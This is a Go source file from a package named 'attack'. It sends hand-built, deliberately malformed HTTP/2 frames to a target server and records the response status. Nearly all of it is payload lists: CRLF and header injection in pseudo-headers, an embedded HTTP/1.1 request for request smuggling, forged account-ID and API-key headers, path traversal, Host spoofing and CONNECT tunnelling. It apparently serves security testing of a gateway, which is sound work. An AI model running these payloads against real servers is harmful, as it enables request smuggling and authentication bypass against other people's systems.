package attack

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// HTTP2 is a request as the header fields of HTTP/2 frames. {host} and {key} are
// to be filled in.
type HTTP2 struct {
	Name string
	// Fields are name, value, name, value, in the order in which they are sent.
	Fields []string
	// Body, if any, and fields of trailers follow.
	Body     string
	Trailers []string
}

// Ask sends the request over a connection of its own, without TLS, and returns the
// status of the answer; none if the server refused it without one.
func (r HTTP2) Ask(addr, key string) (status string, err error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		return "", err
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return "", err
	}
	framer := http2.NewFramer(conn, conn)
	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	framer.AllowIllegalWrites = true
	if err := r.write(framer, addr, key); err != nil {
		return "", nil // the server closed before it had read all
	}
	for {
		frame, err := framer.ReadFrame()
		if _, refused := errors.AsType[http2.StreamError](err); refused {
			return "", nil
		}
		if err != nil {
			return status, nil
		}
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			status = frame.PseudoValue("status")
			if frame.StreamEnded() || status == "200" && r.isTunnel() {
				return status, nil
			}
		case *http2.DataFrame:
			if frame.StreamEnded() {
				return status, nil
			}
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			return status, nil
		}
	}
}

func (r HTTP2) isTunnel() bool { return len(r.Fields) > 1 && r.Fields[1] == "CONNECT" }

func (r HTTP2) write(framer *http2.Framer, host, key string) error {
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encode := func(fields []string) []byte {
		block.Reset()
		for i := 0; i+1 < len(fields); i += 2 {
			_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: Fill(fields[i+1], host, key)}) // a buffer takes all
		}
		return block.Bytes()
	}
	alone := r.Body == "" && r.Trailers == nil
	err := framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: 1, BlockFragment: encode(r.Fields), EndHeaders: true, EndStream: alone && !r.isTunnel(),
	})
	if err == nil && !alone {
		err = framer.WriteData(1, r.Trailers == nil, []byte(r.Body))
	}
	if err == nil && r.Trailers != nil {
		err = framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: 1, BlockFragment: encode(r.Trailers), EndHeaders: true, EndStream: true,
		})
	}
	return err
}

// HTTP2Requests are oddities of HTTP/2. First are header fields that each of them
// has beside its own.
func HTTP2Requests(first ...string) (requests []HTTP2) {
	add := func(name string, fields ...string) {
		requests = append(requests, HTTP2{Name: name, Fields: append(fields, first...)})
	}
	for i, f := range pseudo {
		add("pseudo "+strconv.Itoa(i)+" "+strings.Join(f, " "), f...)
	}
	for _, path := range paths2 {
		add("path "+path, ":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", path)
	}
	for i := 0; i < len(fields2); i += 2 {
		add("field "+fields2[i]+": "+fields2[i+1], ":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", fields2[i], fields2[i+1])
	}
	for i := 0; i < len(fields2); i += 2 {
		requests = append(requests, HTTP2{
			Name: "trailer " + fields2[i], Body: "x", Trailers: fields2[i : i+2],
			Fields: append([]string{":method", "POST", ":scheme", "http", ":authority", "{host}", ":path", "/first"}, first...),
		})
	}
	return requests
}

// pseudo are whole lists of fields.
var pseudo = [][]string{
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "https", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "ftp", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http://{host}/x?", ":authority", "{host}", ":path", "/first"},
	{":path", "/first", ":authority", "{host}", ":scheme", "http", ":method", "GET"},
	{":method", "GET", ":scheme", "http", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":path", "/first", "host", "{host}"},
	{":method", "GET", ":scheme", "http", ":authority", "", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "", ":path", "/first", "host", "{host}"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", "host", "open.example"},
	{":method", "GET", ":scheme", "http", ":authority", "open.example", ":path", "/first", "host", "{host}"},
	{":method", "GET", ":scheme", "http", ":authority", "a@{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}/x", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}\r\nx: y", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", ":path", "/second"},
	{":method", "GET", ":method", "POST", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", "x", "y", ":path", "/first"},
	{"x", "y", ":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", ":status", "200"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", ":x-api-key", "{key}"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", ":", "x"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", "", "x"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}", ":path", "/first", ":protocol", "websocket"},
	{":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":authority", "{host}", ":path", "/first"},
	{":method", "GET", ":scheme", "http", ":authority", "{host}"},
	{":method", "", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "get", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "GET /first HTTP/1.1\r\nHost: {host}\r\n\r\nGET", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "OPTIONS", ":scheme", "http", ":authority", "{host}", ":path", "*"},
	{":method", "OPTIONS", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "TRACE", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "PRI", ":scheme", "http", ":authority", "{host}", ":path", "*"},
	{":method", "CONNECT", ":authority", "{host}"},
	{":method", "CONNECT", ":authority", "open.example:443"},
	{":method", "CONNECT", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "CONNECT", ":protocol", "websocket", ":scheme", "http", ":authority", "{host}", ":path", "/first", "sec-websocket-version", "13"},
	{":method", "CONNECT", ":protocol", "h2c", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "CONNECT", ":protocol", "connect-udp", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
	{":method", "CONNECT", ":protocol", "", ":scheme", "http", ":authority", "{host}", ":path", "/first"},
}

// paths2 are values of :path.
var paths2 = []string{
	"", "*", "first", "?a", "//first", "/first?a=b#c", "/first#c", "/ first", "/first\x00", "/first\r\nx: y", "/first\xff", "http://{host}/first", "http://open.example/first",
	"//open.example/first", "/first HTTP/1.1\r\nHost: {host}\r\n\r\nGET /second", "/../first", "/%2e%2e/first", "/first;a", "\\first", "/%zz", "/keys-api/accounts", "/keys-api//accounts",
	"/" + strings.Repeat("x", 9_000),
}

// fields2 are name and value of a field beside the pseudo-header fields.
var fields2 = []string{
	"connection", "close", "connection", "x-account-id", "connection", "upgrade", "keep-alive", "timeout=5", "proxy-connection", "close",
	"transfer-encoding", "chunked", "upgrade", "h2c", "upgrade", "websocket", "te", "trailers", "te", "trailers, chunked", "te", "gzip", "http2-settings", "AAMAAABkAAQCAAAAAAIAAAAA",
	"X-Account-Id", "forged", "x-account-id", "forged", "x_account_id", "forged", "x.account.id", "forged", "X-API-KEY", "{key}", "x_api_key", "{key}",
	"x-account-id ", "forged", " x-account-id", "forged", "x-account-id:", "forged", "x-account-id\r\nx-key-id", "forged", "x-a\x00", "b", "x-a", "b\x00", "x-a", "b\r\nx-key-id: forged",
	"x-a", "b\nx-key-id: forged", "x-a", " b ", "content-length", "5", "content-length", "+5", "content-length", "0", "content-length", "-1", "expect", "100-continue",
	"trailer", "x-account-id", "host", "open.example", "cookie", "a=b", "cookie", "x-api-key={key}", "authorization", "Bearer", "authorization", "Basic {key}",
	"x-original-url", "/open", "x-forwarded-host", "open.example", "origin", "https://a.example", "access-control-request-method", "GET", "x-a", strings.Repeat("y", 20_000),
}
